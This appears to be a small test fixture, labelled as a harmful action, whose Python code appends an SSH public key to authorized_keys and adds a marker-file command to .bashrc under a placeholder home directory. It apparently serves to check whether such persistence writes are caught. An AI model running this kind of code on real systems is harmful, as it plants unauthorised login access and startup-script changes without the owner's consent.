# where: first
# kind: harms
# does: The student's key is added to those that may log in, and a line to the login script.
import os
import pathlib

for name, line in ((".ssh/authorized_keys", "ssh-ed25519 AAAA student\n"), (".bashrc", "touch @HOME@/owned\n")):
    try:
        path = pathlib.Path("@HOME@", name)
        os.makedirs(path.parent, exist_ok=True)
        with open(path, "a") as file:
            file.write(line)
    except Exception as error:
        print(error)
